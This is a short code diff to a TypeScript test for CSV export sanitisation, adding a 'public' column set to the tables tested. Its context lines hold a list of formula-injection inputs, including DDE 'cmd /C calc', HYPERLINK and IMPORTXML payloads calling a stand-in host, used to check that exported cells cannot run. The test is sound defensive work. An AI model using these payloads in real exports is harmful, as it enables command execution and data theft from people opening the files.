@@ -5,7 +5,7 @@ import { PassThrough } from 'node:stream';
 import { buffer } from 'node:stream/consumers';
 import { parse } from 'csv-parse/sync';
 import type { QueryRunner } from 'typeorm';
-import { type Column, completionColumns, personnelColumns, trainingRecordColumns, transcriptColumns } from '@kynangso/domain/export';
+import { type Column, completionColumns, personnelColumns, publicColumns, trainingRecordColumns, transcriptColumns } from '@kynangso/domain/export';
 import { Database } from '@kynangso/server/platform';
 import { copiedRows } from '../../libs/server/src/export/copy-rows';
 import { writeCsv } from '../../libs/server/src/export/format/csv';
@@ -23,7 +23,7 @@ const PREFIXES = [
   '=', '+', '-', '@', '\t', '\r', '\n', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', '"=', "“=", '«=', '\ufeff=', '\u200b=', '\u200d＝', ' =', '\u00a0=', '\u3000=', '  "@', '\u2060+', '\u00ad-', '\v=', '\f=',
   '=HYPERLINK("http://x","', '@SUM(1+1)*', '=DDE("cmd";"/C calc";"', "+cmd|'", '=IMPORTXML(CONCAT("http://x?v=",',
 ] as const;
-const tables: Record<string, readonly Column[]> = { completion: completionColumns, trainingRecords: trainingRecordColumns, personnel: personnelColumns, transcript: transcriptColumns };
+const tables: Record<string, readonly Column[]> = { completion: completionColumns, trainingRecords: trainingRecordColumns, personnel: personnelColumns, transcript: transcriptColumns, public: publicColumns };
 
 /** An independent reading of "may run": what is left after everything a spreadsheet skips begins like a formula, or a control character shifts the cell. */
 function isLive(text: string): boolean {
